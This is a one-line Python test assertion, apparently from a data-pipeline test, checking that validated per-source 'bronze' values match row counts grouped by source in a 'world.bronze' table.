    assert dict(zip(validated["source"], validated["bronze"])) == world.bronze.groupby("source").size().to_dict()
